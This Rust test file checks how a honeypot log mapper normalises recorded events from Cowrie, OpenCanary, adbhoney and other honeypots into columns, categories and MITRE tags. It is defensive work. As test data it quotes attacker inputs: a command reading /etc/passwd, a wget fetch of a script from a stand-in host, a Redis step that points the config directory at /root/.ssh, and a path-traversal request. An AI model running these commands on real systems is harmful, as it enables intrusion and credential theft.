//! Claims about the mapping, most of them against lines recorded from the honeypots themselves.

use super::*;

const SAMPLES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/pot-samples");

/// Reads a recorded file and maps each line the way it arrives: the type a node takes from the line itself.
fn recorded(pot: &str) -> Vec<Columns> {
    let text = std::fs::read_to_string(format!("{SAMPLES}/{pot}.jsonl")).unwrap();
    text.lines()
        .map(|line| {
            let value: Value = serde_json::from_str(line).unwrap();
            let event_type = ["eventid", "event_type", "logtype"]
                .iter()
                .find_map(|name| match value.get(name) {
                    Some(Value::String(text)) => Some(text.clone()),
                    Some(Value::Number(number)) => Some(number.to_string()),
                    _ => None,
                })
                .unwrap_or_else(|| "unknown".into());
            columns(&event_type, Some(pot), line)
        })
        .collect()
}

fn of_type<'a>(all: &'a [Columns], event_type: &str) -> Vec<&'a Columns> {
    let found: Vec<_> = all.iter().filter(|columns| columns.event_type == event_type).collect();
    assert!(
        !found.is_empty(),
        "no {event_type} among {:?}",
        all.iter().map(|c| &c.event_type).collect::<Vec<_>>()
    );
    found
}

#[test]
fn every_cowrie_event_has_its_address_session_and_protocol() {
    let all = recorded("cowrie");
    assert_eq!(all.len(), 221);
    for columns in &all {
        assert!(columns.src_ip.is_some(), "{columns:?}");
        assert!(columns.src_port.is_some() && columns.dst_port.is_some(), "{columns:?}");
        assert!(columns.session.as_deref().is_some_and(|session| session.len() == 12), "{columns:?}");
        assert!(matches!(columns.protocol.as_deref(), Some("ssh" | "telnet")), "{columns:?}");
        assert_ne!(columns.category, Category::Other, "{columns:?}");
    }
}

#[test]
fn cowrie_logins_commands_and_files_land_in_their_columns() {
    let all = recorded("cowrie");
    let login = of_type(&all, "cowrie.login.success")[0];
    assert_eq!((login.username.as_deref(), login.password.as_deref()), (Some("root"), Some("hunter2")));
    assert_eq!(
        (login.category, login.severity, login.tags.clone()),
        (Category::Auth, Severity::Medium, vec!["T1078"])
    );

    let failed = of_type(&all, "cowrie.login.failed")[0];
    assert_eq!((failed.severity, failed.tags.clone()), (Severity::Low, vec!["T1110"]));

    let command = of_type(&all, "cowrie.command.input")[0];
    assert_eq!(command.command.as_deref(), Some("uname -a; id; cat /etc/passwd | head -3; nosuchcmd --x"));
    assert_eq!((command.category, command.severity), (Category::Command, Severity::Medium));
    assert_eq!(command.tags, ["T1033", "T1059", "T1082"]);

    let upload = of_type(&all, "cowrie.session.file_upload")[0];
    assert_eq!(
        upload.sha256.as_deref(),
        Some("b5112b01ea2c85270667af590ea5a006049197a12f8a0246fd83ed5ecd42b6a6")
    );
    assert_eq!((upload.category, upload.path.as_deref()), (Category::File, Some("up.bin")));

    let kex = of_type(&all, "cowrie.client.kex")[0];
    assert_eq!(kex.hassh.as_deref(), Some("472b5de333ad665af5cbf10ff892c4df"));
    assert_eq!(kex.category, Category::Session);

    assert_eq!(of_type(&all, "cowrie.direct-tcpip.request")[0].tags, ["T1090"]);
    assert!(of_type(&all, "cowrie.telnet.option").iter().all(|columns| columns.command.is_none()));
    assert!(
        of_type(&all, "cowrie.session.closed").iter().all(|columns| columns.category == Category::Connection)
    );
}

#[test]
fn opencanary_numbers_become_names_and_boot_lines_are_no_attacks() {
    let all = recorded("opencanary");
    let ftp = of_type(&all, "opencanary.ftp.login")[0];
    assert_eq!((ftp.username.as_deref(), ftp.password.as_deref()), (Some("bob"), Some("s3cret")));
    assert_eq!(
        (ftp.protocol.as_deref(), ftp.dst_port, ftp.category),
        (Some("ftp"), Some(4021), Category::Auth)
    );
    let http = of_type(&all, "opencanary.http.get")[0];
    assert_eq!(
        (http.path.as_deref(), http.user_agent.as_deref()),
        (Some("/index.html"), Some("curl/7.88.1"))
    );
    let redis = of_type(&all, "opencanary.redis.command");
    assert_eq!(redis[1].command.as_deref(), Some("CONFIG SET dir /root/.ssh"));
    let vnc = of_type(&all, "opencanary.vnc.login")[0];
    assert_eq!(vnc.password, None, "the pot's placeholder is not a password");
    let boot = of_type(&all, "opencanary.boot")[0];
    assert_eq!(
        (boot.category, boot.src_ip, boot.src_port, boot.severity),
        (Category::Other, None, None, Severity::Info)
    );
}

#[test]
fn honnypotter_speaks_of_a_request_and_a_failed_login() {
    let all = recorded("honnypotter");
    assert_eq!(all.len(), 3);
    let second = &all[1];
    assert_eq!(second.src_ip, Some("8.8.8.8".parse().unwrap()));
    assert_eq!((second.username.as_deref(), second.password.as_deref()), (Some("admin"), Some("spoofed")));
    assert_eq!((second.path.as_deref(), second.protocol.as_deref()), (Some("/wp-login.php"), Some("http")));
    assert_eq!((second.category, second.severity), (Category::Auth, Severity::Low));
}

#[test]
fn heralding_gives_its_first_attempt() {
    let all = recorded("heralding");
    let attempts = of_type(&all, "auth.attempt");
    assert_eq!(
        (attempts[0].username.as_deref(), attempts[0].password.as_deref()),
        (Some("bob"), Some("s3cret"))
    );
    assert_eq!(attempts[0].protocol.as_deref(), Some("ftp"));
    assert_eq!(attempts[0].session.as_deref(), Some("6b68e410-95bf-415a-a4d9-642e48795689"));
    assert!(attempts.iter().all(|columns| columns.category == Category::Auth && columns.src_ip.is_some()));
    assert_eq!(of_type(&all, "session")[0].category, Category::Session);
}

#[test]
fn ports_written_as_strings_are_ports() {
    let all = recorded("qeeqbox-honeypots");
    let login = of_type(&all, "pop3.login")[0];
    assert_eq!((login.src_port, login.dst_port), (Some(35644), Some(12110)));
    assert_eq!((login.username.as_deref(), login.password.as_deref()), (Some("pu"), Some("pp")));
    assert_eq!(login.protocol.as_deref(), Some("pop3"));
    assert!(of_type(&all, "smb.connection").iter().all(|columns| columns.category == Category::Connection));
}

#[test]
fn sshesame_hides_address_and_port_in_one_field() {
    let all = recorded("sshesame");
    let password = of_type(&all, "password_auth")[0];
    assert_eq!((password.src_ip, password.src_port), (Some("127.0.0.1".parse().unwrap()), Some(36250)));
    assert_eq!((password.username.as_deref(), password.password.as_deref()), (Some("root"), Some("toor")));
    assert_eq!(of_type(&all, "exec")[0].command.as_deref(), Some("uname -a"));
    assert_eq!(of_type(&all, "session_input")[0].category, Category::Command);
}

#[test]
fn elasticpot_adbhoney_and_conpot_are_understood_without_rules_of_their_own() {
    let elastic = recorded("elasticpot");
    let recon = of_type(&elastic, "elasticpot.recon")[0];
    assert_eq!(
        (recon.category, recon.path.as_deref(), recon.protocol.as_deref()),
        (Category::Scan, Some("/"), Some("http"))
    );
    assert_eq!(of_type(&elastic, "elasticpot.attack")[0].tags, ["T1190"]);

    let adb = recorded("adbhoney");
    let command = of_type(&adb, "adbhoney.command.input")[0];
    assert_eq!(command.command.as_deref(), Some("cd /data/local/tmp; wget http://x/a.sh; id"));
    assert_eq!((command.severity, command.protocol.as_deref()), (Severity::High, Some("adb")));
    assert_eq!(
        of_type(&adb, "adbhoney.session.file_upload")[0].path.as_deref(),
        Some("/data/local/tmp/t.apk")
    );

    let conpot = recorded("conpot");
    assert!(conpot.iter().all(|columns| columns.src_ip.is_some() && columns.protocol.is_some()));
    assert_eq!(of_type(&conpot, "NEW_CONNECTION")[0].category, Category::Connection);
}

#[test]
fn our_http_trap_and_the_seed_example_map() {
    let http = columns(
        "http.request",
        Some("http"),
        r#"{"session":"a1","src_ip":"203.0.113.9","src_port":4711,"dst_port":80,"method":"GET","path":"/cgi-bin/x?a=../../etc/passwd","user_agent":"zgrab"}"#,
    );
    assert_eq!(
        (http.category, http.severity, http.tags),
        (Category::Request, Severity::Medium, vec!["T1190"])
    );
    let login = columns(
        "http.login",
        None,
        r#"{"src_ip":"203.0.113.9","username":"admin","password":"x","path":"/login"}"#,
    );
    assert_eq!((login.category, login.protocol.as_deref()), (Category::Auth, Some("http")));
    let seed =
        columns("login", None, r#"{"username":"admin","password":"password123","ip":"192.168.1.100"}"#);
    assert_eq!(seed.src_ip, Some("192.168.1.100".parse().unwrap()));
    assert_eq!((seed.category, seed.username.as_deref()), (Category::Auth, Some("admin")));
}

#[test]
fn source_addresses_are_found_under_every_name_in_use() {
    for (data, ip, port) in [
        (r#"{"src_host":"198.51.100.1","src_port":-1}"#, "198.51.100.1", None),
        (r#"{"source_ip":"198.51.100.1","source_port":7}"#, "198.51.100.1", Some(7)),
        (r#"{"addr":"198.51.100.1:53010"}"#, "198.51.100.1", Some(53010)),
        (r#"{"peer":{"ip":"198.51.100.1","port":9}}"#, "198.51.100.1", Some(9)),
        (r#"{"attack_connection":{"remote_ip":"198.51.100.1","remote_port":9}}"#, "198.51.100.1", Some(9)),
        (r#"{"IP":"198.51.100.1","Port":"34442"}"#, "198.51.100.1", Some(34442)),
        (r#"{"remote_addr":"[2001:db8::7]:22"}"#, "2001:db8::7", Some(22)),
        (r#"{"src_ip":"::ffff:198.51.100.1"}"#, "198.51.100.1", None),
        (r#"{"src_ip":"fe80::1%eth0"}"#, "fe80::1", None),
        (r#"{"src_ip":"not an ip","source":"198.51.100.1:80"}"#, "198.51.100.1", Some(80)),
    ] {
        let columns = columns("x", None, data);
        assert_eq!((columns.src_ip, columns.src_port), (Some(ip.parse().unwrap()), port), "{data}");
    }
}

#[test]
fn hostile_data_gives_absent_columns_and_never_a_panic() {
    for data in [
        "",
        "null",
        "[]",
        "{",
        "\"x\"",
        "{\"src_ip\":{}}",
        "{\"src_port\":99999999999}",
        "{\"src_port\":\"-1\"}",
        "{\"auth_attempts\":[[[[]]]]}",
        "{\"shasum\":\"zz\"}",
        "{\"username\":[]}",
        "{\"src_ip\":\"1.2.3.4.5\"}",
    ] {
        let columns = columns("weird", None, data);
        assert_eq!((columns.src_ip, columns.src_port, columns.sha256), (None, None, None), "{data}");
    }
    let deep = format!("{}1{}", "{\"a\":".repeat(100_000), "}".repeat(100_000));
    assert_eq!(columns("weird", None, &deep).category, Category::Other);
    let long = format!("{{\"input\":\"{}\"}}", "é".repeat(10_000));
    let kept = columns("cowrie.command.input", None, &long).command.unwrap();
    assert!(kept.len() <= COLUMN_BYTES_MAX && kept.chars().all(|c| c == 'é'));
}
